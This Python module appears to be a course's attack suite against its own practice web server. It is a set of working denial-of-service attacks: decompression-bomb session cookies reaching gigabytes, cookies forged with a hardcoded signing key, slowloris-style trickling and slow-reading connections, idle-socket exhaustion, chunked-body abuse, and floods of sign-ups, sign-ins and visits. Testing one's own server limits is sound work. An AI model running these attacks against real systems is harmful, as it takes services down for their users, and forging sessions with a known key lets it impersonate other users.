"""What a malicious stranger may send to a server; standard library only.

Each attack is named after what it costs a server without a limit for it. Attacks
use only what the site gives to anyone, and the course's published key, which is
the server's only under `--lab`.
"""

import base64
import functools
import hashlib
import hmac
import re
import socket
import time
import urllib.parse
import zlib
from dataclasses import dataclass
from typing import Callable

COURSE_KEY = b"5eed9b976f6d5c80fb8bb74b1bcff9f01218a864d0f2dd76143356d3cc36eda8"
MIB = 1024 * 1024

# A password with many readings: every sign may stand for a letter, some for two.
LEET = "4@8({[<3691!|70$5+7%2" + "password" * 5


def encode(data):
    """Base64 for a cookie."""
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def payload(json):
    """The compressed payload of a session, with its leading dot."""
    return b"." + encode(zlib.compress(json, 9))


def unsigned(json):
    """A cookie of three parts with an invalid signature."""
    return payload(json) + b".awVEAA." + b"A" * 27


def forged(json):
    """A cookie signed just now with the course's key."""
    key = hmac.new(COURSE_KEY, b"cookie-session", hashlib.sha1).digest()
    signed = payload(json) + b"." + encode(int(time.time()).to_bytes(4, "big"))
    return signed + b"." + encode(hmac.new(key, signed, hashlib.sha1).digest())


@functools.cache
def nested(key_letters, tags):
    """Ten objects with long keys around a list of tags; each tag's path contains all keys."""
    keys = b"".join(b'{"%s":' % (b"k" * key_letters) for _ in range(10))
    inner = b",".join([b'{" t":[]}'] * tags)
    return unsigned(keys + b"[" + inner + b"]" + b"}" * 10)


@functools.cache
def repeated(item):
    """One mebibyte of the same value."""
    return b'{"a":[' + b",".join([item] * (MIB // (len(item) + 1))) + b"]}"


def request(method, path, cookie=None, form=None, headers=()):
    """The bytes of a request that closes its connection."""
    lines = [f"{method} {path} HTTP/1.1".encode(), b"Host: localhost", b"Connection: close"]
    lines += headers
    if cookie is not None:
        lines.append(b"Cookie: " + cookie)
    body = b""
    if form is not None:
        body = urllib.parse.urlencode(form).encode()
        lines.append(b"Content-Type: application/x-www-form-urlencoded")
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


@dataclass
class Attack:
    """An attack and its name.

    `shots(site)` returns a function that makes one attempt and returns the
    statuses and sizes of the answers. If `holds` is set, that many connections are
    kept open at once instead. A `wild` attack makes a server without limits ask
    for more memory than there is, and comes last.
    """

    name: str
    shots: Callable
    count: int = 200
    holds: int = 0
    wild: bool = False
    needs: str = ""


def cookie_shots(path, cookie):
    """Repeats a GET with this cookie."""
    return lambda site: lambda _: [site.send(request("GET", path, b"session=" + cookie))]


def forged_shots(path, json):
    """Repeats a GET with a cookie signed with the course's key."""
    return lambda site: lambda _: [site.send(request("GET", path, b"session=" + forged(json)))]


def sign_up_shots(password, confirm):
    """Sign-ups under names that are not taken."""

    def shots(site):
        page = site.fetch(request("GET", "/sign-up"))
        token = re.search(rb'name="csrf_token" value="([^"]+)"', page)[1].decode()
        session = re.search(rb"set-cookie: (session=[^;]+)", page)[1]

        def shot(number):
            form = {"csrf_token": token, "login": f"{site.salt}-{number}"}
            form |= {"password": password, "confirm": confirm}
            return [site.send(request("POST", "/sign-up", session, form))]

        return shot

    return shots


def sign_in_shots(site):
    """Sign-ins whose answer is not waited for."""

    def shot(number):
        form = {"login": f"{site.salt}-{number % 20}", "password": "not the password"}
        with site.connect() as connection:
            connection.sendall(request("POST", "/sign-in", form=form))
        return [("left", 0)]

    return shot


def logout_shots(site):
    """A guest signs in and out, under a different uid each time."""

    def shot(_):
        form = {"login": "guest", "password": "x"}
        page = site.fetch(request("POST", "/sign-in", form=form))
        cookie = re.search(rb"set-cookie: (session=[^;]+)", page)
        out = request("POST", "/logout", cookie and cookie[1], {})
        return [(status(page), len(page)), site.send(out)]

    return shot


def forged_logout_shots(site):
    """Logouts of sessions whose uid is a mebibyte long."""

    def shot(number):
        uid = b"%d-" % number + b"u" * MIB
        session = b'{"uid":"%s","user":{"username":"a"}}' % uid
        return [site.send(request("POST", "/logout", b"session=" + forged(session), {}))]

    return shot


def flood_shots(returns):
    """Visits to the practical without a cookie; each new cookie is sent back a number of times."""

    def shots(site):
        def shot(_):
            page = site.fetch(request("GET", site.practical))
            answers = [(status(page), len(page))]
            cookie = re.search(rb"set-cookie: ((?:__Host-)?tp=[^;]+)", page)
            for _ in range(returns if cookie else 0):
                answers.append(site.send(request("GET", site.practical, cookie[1])))
            return answers

        return shot

    return shots


def chunk_shots(site):
    """A form of 64 KiB, one byte a chunk."""
    head = request(
        "POST",
        "/sign-in",
        headers=(
            b"Content-Type: application/x-www-form-urlencoded",
            b"Transfer-Encoding: chunked",
        ),
    )
    body = b"1\r\na\r\n" * (64 * 1024 - 10) + b"0\r\n\r\n"
    return lambda _: [site.send(head + body)]


def bench_shots(site):
    """The bench's form, of the greatest length allowed."""
    form = {"payload": "[" * 480 + "]" * 480, "cookie": '{" t":[]},' * 1500, "action": "verify"}
    return lambda _: [site.send(request("POST", "/banc", form=form))]


def many_cookies_shots(site):
    """Hundreds of small cookies with names that the site reads."""
    cookie = b"; ".join([b"tp=e30.awVEAA.x", b"session=e30.awVEAA.x"] * 350)
    return lambda _: [site.send(request("GET", "/inspecteur", cookie[:15_000]))]


def trickle(site, connection, until):
    """A form sent byte by byte, with a session of a mebibyte."""
    cookie = b"session=" + forged(repeated(b'{" t":[]}'))
    headers = (
        b"Content-Type: application/x-www-form-urlencoded",
        b"Content-Length: 1000",
    )
    connection.sendall(request("POST", "/sign-in", cookie, headers=headers))
    while time.monotonic() < until:
        connection.sendall(b"a")
        time.sleep(0.5)


def read_slowly(site, connection, until):
    """A long answer, read a little at a time."""
    cookie = b"session=" + nested(320, 2000)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.sendall(request("GET", "/inspecteur.json", cookie))
    while time.monotonic() < until and connection.recv(256):
        time.sleep(1)


def stay_silent(site, connection, until):
    """A connection on which nothing is sent."""
    time.sleep(max(0, until - time.monotonic()))


def status(answer):
    """The status of an answer, or what happened instead."""
    return int(answer[9:12]) if answer.startswith(b"HTTP/1.1 ") else "none"


TAGS = (b"0", b"[]", b'{" t":[]}', b'{" m":0}', b'{" b":""}')

ATTACKS = (
    Attack("1 tag paths, 10 MB of them", cookie_shots("/inspecteur.json", nested(500, 2000))),
    Attack("1 tag paths, 500 MB", cookie_shots("/inspecteur", nested(5000, 10_000)), 20),
    *(
        Attack(f"2 1 MiB of {item.decode()} {path}", cookie_shots(path, unsigned(repeated(item))))
        for item in TAGS
        for path in ("/inspecteur", "/inspecteur.json")
    ),
    *(
        Attack(
            f"2 forged, 1 MiB of {item.decode()} {path}",
            forged_shots(path, repeated(item)),
            needs="--lab",
        )
        for item in TAGS
        for path in ("/inspecteur", "/")
    ),
    Attack("3 forms that trickle", trickle, holds=40),
    Attack("4 slow readers", read_slowly, holds=300),
    Attack("5 password, 61 letters", sign_up_shots(LEET, "x"), 50),
    Attack("5 password, 1,024 letters", sign_up_shots((LEET * 17)[:1024], "x"), 50),
    Attack("6 sign-ups", sign_up_shots("a long and fine password", "a long and fine password"), 300),
    Attack("6 sign-ins, left", sign_in_shots, 300),
    Attack("7 silent sockets", stay_silent, holds=1100),
    Attack("8 form in one-byte chunks", chunk_shots, 100),
    Attack("9 visitors without a cookie", flood_shots(0), 1500),
    Attack("9 visitors who return once", flood_shots(1), 1500),
    Attack("10 guests' logouts", logout_shots, 1000),
    Attack("10 forged uid of 1 MiB", forged_logout_shots, 100, needs="--lab"),
    Attack("bench, nested and long", bench_shots),
    Attack("many small cookies", many_cookies_shots),
    Attack(
        "1 tag paths, 20 GB",
        cookie_shots("/inspecteur.json", nested(50_000, 40_000)),
        4,
        wild=True,
    ),
)
